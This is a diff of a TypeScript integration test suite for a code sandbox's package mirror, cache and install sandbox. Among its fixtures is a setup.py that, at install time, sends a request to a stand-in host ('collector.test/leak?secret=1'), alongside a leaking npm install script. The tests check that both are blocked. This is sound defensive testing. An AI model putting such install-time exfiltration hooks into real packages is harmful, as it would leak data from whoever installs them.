@@ -26,7 +26,10 @@ beforeAll(async () => {
   await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
   collectorPort = (collector.address() as AddressInfo).port;
   distDir = mkdtempSync(join(tmpdir(), 'packages-dist-'));
-  index.addPython('sbxdemo', buildPythonDistribution(distDir, 'sbxdemo', { 'sbxdemo/__init__.py': 'VALUE = 42\n' }));
+  index.addPython(
+    'sbxdemo',
+    buildPythonDistribution(distDir, 'sbxdemo', { 'sbxdemo/__init__.py': 'VALUE = 42\n' }),
+  );
   // Unpacks to 8 MiB (zeros compress to almost nothing): past the 4 MiB installed-size budget.
   index.addPython(
     'sbxbig',
@@ -38,12 +41,24 @@ beforeAll(async () => {
   // An allowed package whose dependency is not on the allowlist.
   index.addPython(
     'sbxneedy',
-    buildPythonDistribution(distDir, 'sbxneedy', { 'sbxneedy/__init__.py': '' }, {
-      setupPy: 'from setuptools import setup\nsetup(name="sbxneedy", version="1.0", packages=["sbxneedy"], install_requires=["sbxsecret"])\n',
-    }),
+    buildPythonDistribution(
+      distDir,
+      'sbxneedy',
+      { 'sbxneedy/__init__.py': '' },
+      {
+        setupPy:
+          'from setuptools import setup\nsetup(name="sbxneedy", version="1.0", packages=["sbxneedy"], install_requires=["sbxsecret"])\n',
+      },
+    ),
   );
-  index.addPython('sbxsecret', buildPythonDistribution(distDir, 'sbxsecret', { 'sbxsecret/__init__.py': '' }));
-  index.addPython('sbxlater', buildPythonDistribution(distDir, 'sbxlater', { 'sbxlater/__init__.py': 'VALUE = 7\n' }));
+  index.addPython(
+    'sbxsecret',
+    buildPythonDistribution(distDir, 'sbxsecret', { 'sbxsecret/__init__.py': '' }),
+  );
+  index.addPython(
+    'sbxlater',
+    buildPythonDistribution(distDir, 'sbxlater', { 'sbxlater/__init__.py': 'VALUE = 7\n' }),
+  );
   index.addNpm('sbxnode', '1.0.0', buildNpmTarball(distDir, 'sbxnode', 'module.exports = { value: 43 };\n'));
   index.addNpm(
     'sbxnodeleak',
@@ -57,26 +72,37 @@ beforeAll(async () => {
   // sdists: their setup.py runs at install time, inside the install sandbox.
   index.addPython(
     'sbxleak',
-    buildPythonDistribution(distDir, 'sbxleak', { 'sbxleak/__init__.py': '' }, {
-      sdist: true,
-      setupPy: [
-        'import urllib.request',
-        'from setuptools import setup',
-        'try:',
-        `    urllib.request.urlopen("http://collector.test:${collectorPort}/leak?secret=1", timeout=10).read()`,
-        '    print("LEAK-REACHED")',
-        'except Exception as error:',
-        '    raise SystemExit("LEAK-BLOCKED: " + str(error))',
-        'setup(name="sbxleak", version="1.0", packages=["sbxleak"])',
-      ].join('\n'),
-    }),
+    buildPythonDistribution(
+      distDir,
+      'sbxleak',
+      { 'sbxleak/__init__.py': '' },
+      {
+        sdist: true,
+        setupPy: [
+          'import urllib.request',
+          'from setuptools import setup',
+          'try:',
+          `    urllib.request.urlopen("http://collector.test:${collectorPort}/leak?secret=1", timeout=10).read()`,
+          '    print("LEAK-REACHED")',
+          'except Exception as error:',
+          '    raise SystemExit("LEAK-BLOCKED: " + str(error))',
+          'setup(name="sbxleak", version="1.0", packages=["sbxleak"])',
+        ].join('\n'),
+      },
+    ),
   );
   index.addPython(
     'sbxslow',
-    buildPythonDistribution(distDir, 'sbxslow', { 'sbxslow/__init__.py': '' }, {
-      sdist: true,
-      setupPy: 'import time\ntime.sleep(120)\nfrom setuptools import setup\nsetup(name="sbxslow", version="1.0", packages=["sbxslow"])\n',
-    }),
+    buildPythonDistribution(
+      distDir,
+      'sbxslow',
+      { 'sbxslow/__init__.py': '' },
+      {
+        sdist: true,
+        setupPy:
+          'import time\ntime.sleep(120)\nfrom setuptools import setup\nsetup(name="sbxslow", version="1.0", packages=["sbxslow"])\n',
+      },
+    ),
   );
   const port = await index.start();
   t = await startTestApp(
@@ -124,26 +150,37 @@ async function metric(series: string): Promise<number> {
 describe('packages at run time (Python, through the host-side mirror and cache)', () => {
   it('installs a wheel from the operator index and the program imports it', async () => {
     const run = await execute(
-      python('import sbxdemo, sys\nprint(sbxdemo.VALUE, sbxdemo.__file__)', { packages: { python: ['sbxdemo==1.0'] } }),
+      python('import sbxdemo, sys\nprint(sbxdemo.VALUE, sbxdemo.__file__)', {
+        packages: { python: ['sbxdemo==1.0'] },
+      }),
     );
     expect(run.status).toBe(200);
     expect(run.install?.output ?? '').toContain('Successfully installed sbxdemo-1.0');
     expect(run.json.exit_reason).toBe('ok');
     expect(run.json.stdout).toMatch(/^42 \/sandbox\/job\/python-packages\/sbxdemo\/__init__\.py/);
-    expect(run.install).toMatchObject({ outcome: 'ok', packages: ['sbxdemo==1.0'], cache_misses: 1, cache_hits: 0 });
+    expect(run.install).toMatchObject({
+      outcome: 'ok',
+      packages: ['sbxdemo==1.0'],
+      cache_misses: 1,
+      cache_hits: 0,
+    });
     expect(index.count('/files/sbxdemo-1.0')).toBe(1);
   }, 120_000);
 
   it('serves the second install from the host cache: the index sees no second request', async () => {
     const requestsBefore = index.requests.length;
     const hitsBefore = await metric('code_sandbox_package_cache_requests_total{result="hit"}');
-    const run = await execute(python('import sbxdemo\nprint(sbxdemo.VALUE)', { packages: { python: ['sbxdemo'] } }));
+    const run = await execute(
+      python('import sbxdemo\nprint(sbxdemo.VALUE)', { packages: { python: ['sbxdemo'] } }),
+    );
     expect(run.json.exit_reason).toBe('ok');
     expect(run.json.stdout).toBe('42\n');
     expect(run.install).toMatchObject({ outcome: 'ok', cache_hits: 1, cache_misses: 0 });
     expect(index.requests.length).toBe(requestsBefore);
     expect(await metric('code_sandbox_package_cache_requests_total{result="hit"}')).toBe(hitsBefore + 1);
-    expect(await metric('code_sandbox_package_installs_total{language="python",outcome="ok"}')).toBeGreaterThanOrEqual(2);
+    expect(
+      await metric('code_sandbox_package_installs_total{language="python",outcome="ok"}'),
+    ).toBeGreaterThanOrEqual(2);
     expect(await metric('code_sandbox_package_fetched_bytes_total')).toBeGreaterThan(0);
   }, 120_000);
 
@@ -180,7 +217,10 @@ describe('packages at run time (Python, through the host-side mirror and cache)'
           'except Exception as error:',
           '    print("index", "ERR", error)',
         ].join('\n'),
-        { packages: { python: ['sbxdemo'] }, ...(allow ? { network: { allow: [`pypi.test:${index.port}`] } } : {}) },
+        {
+          packages: { python: ['sbxdemo'] },
+          ...(allow ? { network: { allow: [`pypi.test:${index.port}`] } } : {}),
+        },
       );
     const pagesBefore = index.count('/simple/sbxdemo/');
     const closed = await execute(probe(false));
@@ -202,7 +242,9 @@ describe('packages at run time (Python, through the host-side mirror and cache)'
 
   it("ends an install past the request's timeout as install_error (timeout), within that timeout", async () => {
     const started = Date.now();
-    const run = await execute(python('import sbxslow', { packages: { python: ['sbxslow'] }, limits: { timeout_ms: 8000 } }));
+    const run = await execute(
+      python('import sbxslow', { packages: { python: ['sbxslow'] }, limits: { timeout_ms: 8000 } }),
+    );
     expect(run.json.exit_reason).toBe('install_error');
     expect(run.install?.outcome).toBe('timeout');
     expect(run.install?.duration_ms).toBeLessThan(8000 + 3000);
@@ -220,10 +262,12 @@ describe('packages at run time (Python, through the host-side mirror and cache)'
   }, 120_000);
 });
 
-
 describe('packages in sessions', () => {
   it('installs at CreateSession, imports in later cells, and installs more with %pip install in a cell', async () => {
-    const created = await postJson(`${t.httpUrl}/v1/sessions`, { language: 'python', packages: { python: ['sbxdemo'] } });
+    const created = await postJson(`${t.httpUrl}/v1/sessions`, {
+      language: 'python',
+      packages: { python: ['sbxdemo'] },
+    });
     expect(created.status).toBe(200);
     const sessionId = created.json.session_id as string;
     const cell = async (code: string) =>
@@ -237,7 +281,9 @@ describe('packages in sessions', () => {
       const later = await cell('print(sbxdemo.VALUE + sbxlater.VALUE)');
       expect(later.stdout).toBe('49\n');
       expect(later.install).toBeUndefined();
-      const refused = await postJson(`${t.httpUrl}/v1/sessions/${sessionId}/execute`, { code: '%pip install requests-oauthlib' });
+      const refused = await postJson(`${t.httpUrl}/v1/sessions/${sessionId}/execute`, {
+        code: '%pip install requests-oauthlib',
+      });
       expect(refused.status).toBe(400);
       const failing = await cell('%pip install sbxneedy\nprint("not reached")');
       expect(failing.exit_reason).toBe('install_error');
@@ -271,7 +317,11 @@ describe('packages at run time (Node.js, npm against a registry stand-in)', () =
   }, 180_000);
 
   it('stops an install script that reaches another host at the mirror', async () => {
-    const run = await execute({ language: 'nodejs', code: 'require("sbxnodeleak")', packages: { nodejs: ['sbxnodeleak'] } });
+    const run = await execute({
+      language: 'nodejs',
+      code: 'require("sbxnodeleak")',
+      packages: { nodejs: ['sbxnodeleak'] },
+    });
     expect(run.json.exit_reason).toBe('install_error');
     expect(run.install?.output).toContain('NPM-LEAK-STATUS 403');
     expect(collected).toEqual([]);
